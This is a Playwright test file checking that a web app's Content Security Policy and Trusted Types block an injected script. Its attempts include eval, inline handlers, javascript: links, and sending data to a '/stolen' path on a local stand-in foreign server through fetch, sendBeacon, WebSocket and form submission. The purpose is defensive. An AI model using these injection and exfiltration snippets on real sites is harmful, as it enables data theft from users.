import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { listen } from '../../test-kit/listen.ts';
import { expect, museums, screenOf, test } from '../../test-kit/test.ts';

/** Another origin of this machine, with a script. */
const foreign = createServer((request, response) => {
  asked.push(request.url ?? '/');
  response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('window.foreignRan = true;');
});
const asked: string[] = [];
interface Outcome {
  ended: Record<string, string>;
  /** The policy's directives that were broken. */
  directives: string[];
}

/** The policy does not bind code that DevTools evaluates, but binds its timers. */
function tryEverything(page: Page, foreignOrigin: string): Promise<Outcome> {
  return page.evaluate(async (origin) => {
    const { src = '', integrity = '' } = document.querySelector<HTMLScriptElement>('script[src][integrity]') ?? {};
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
    const types = (
      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } } }
    ).trustedTypes;
    const asPage = <T>(act: () => T | Promise<T>) =>
      new Promise<T>((resolve, reject) => setTimeout(() => Promise.resolve().then(act).then(resolve, reject)));
    const load = (script: HTMLScriptElement) =>
      new Promise<string>((resolve) => {
        script.onload = () => resolve('ran');
        script.onerror = () => resolve('blocked');
        document.head.append(script);
      });
    const scriptOf = (url: string, hash = '') => {
      const script = document.createElement('script');
      // Any script can create the loader's Trusted Types policy; the content policy still checks the address.
      script.src = types.createPolicy('enfilade-loader', { createScriptURL: (each: string) => each }).createScriptURL(url);
      if (hash) script.setAttribute('integrity', hash);
      script.crossOrigin = 'anonymous';
      return script;
    };
    const attempts: Record<string, () => unknown> = {
      eval: () => new Function('return 1')(),
      'timer with text': () => void setTimeout('window.foreignRan = true'),
      'inline script': async () => {
        const script = document.createElement('script');
        script.append('window.foreignRan = true');
        document.head.append(script);
      },
      'inline handler': () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.foreignRan = true');
        document.body.append(button);
        button.click();
      },
      'javascript link': async () => {
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:void (window.foreignRan = true)');
        document.body.append(link);
        link.click();
        await new Promise((resolve) => setTimeout(resolve, 50));
      },
      'inline style': () => {
        const style = document.createElement('style');
        style.append('html{--foreign:1}');
        document.head.append(style);
        if (getComputedStyle(document.documentElement).getPropertyValue('--foreign')) return 'ran';
        throw new Error('not applied');
      },
      'foreign request': () => fetch(`${origin}/stolen`),
      'foreign beacon': async () => {
        navigator.sendBeacon(`${origin}/stolen`);
        await new Promise((resolve) => setTimeout(resolve, 50));
      },
      'foreign socket': () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(origin.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      'foreign form': async () => {
        const form = document.createElement('form');
        form.action = `${origin}/stolen`;
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 50));
      },
      'text as HTML': () => {
        document.createElement('div').innerHTML = '<b>x</b>';
      },
      'text as a script’s address': () => {
        document.createElement('script').src = '/static/x.js';
      },
      'a policy of one’s own': () => types.createPolicy('mine', {}),
      'foreign script through the loader’s policy': () => load(scriptOf(`${origin}/x.js`)),
      'own script without a hash': () => load(scriptOf(src)),
      'own script with another’s hash': () => load(scriptOf(src, `sha384-${'A'.repeat(64)}`)),
      'own script with its hash': () => load(scriptOf(src, integrity)),
    };
    const ended: Record<string, string> = {};
    for (const [name, act] of Object.entries(attempts)) {
      ended[name] = await asPage(act).then(
        (value) => (typeof value === 'string' ? value : 'done'),
        (error: unknown) => `refused: ${error instanceof Error ? error.name : 'event'}`,
      );
    }
    // The browser reports the form late.
    while (!directives.includes('form-action')) await new Promise((resolve) => setTimeout(resolve, 20));
    return { ended, directives: [...new Set(directives)] };
  }, foreignOrigin);
}

/** Some violations throw. The result of an attempt that the browser blocks without an exception is `done`. */
const endings = {
  eval: 'refused: EvalError',
  'timer with text': 'refused: TypeError',
  'inline script': 'done',
  'inline handler': 'refused: TypeError',
  'javascript link': 'done',
  'inline style': 'refused: Error',
  'foreign request': 'refused: TypeError',
  'foreign beacon': 'done',
  'foreign socket': 'refused: event',
  'foreign form': 'done',
  'text as HTML': 'refused: TypeError',
  'text as a script’s address': 'refused: TypeError',
  'a policy of one’s own': 'refused: TypeError',
  'foreign script through the loader’s policy': 'blocked',
  'own script without a hash': 'blocked',
  'own script with another’s hash': 'blocked',
  'own script with its hash': 'ran',
};

test('an injected script can neither create code, nor load code, nor send data away', async ({ page, complaints, atEnd }) => {
  const { origin, close } = await listen(foreign);
  atEnd(close);
  await page.goto(`/?museum=${museums.belmonte}`);
  await expect(screenOf(page, 'landing')).toBeVisible();
  expect(await page.evaluate(() => document.querySelector('script[src]')?.hasAttribute('integrity'))).toBe(true);
  expect(complaints).toEqual([]);
  const { ended, directives } = await tryEverything(page, origin);
  expect(ended).toEqual(endings);
  const broken = 'connect-src form-action require-trusted-types-for script-src-elem style-src-elem trusted-types';
  expect(directives.sort().join(' ')).toBe(broken);
  expect(await page.evaluate(() => 'foreignRan' in window)).toBe(false);
  expect(asked).toEqual([]);
  complaints.length = 0;
});
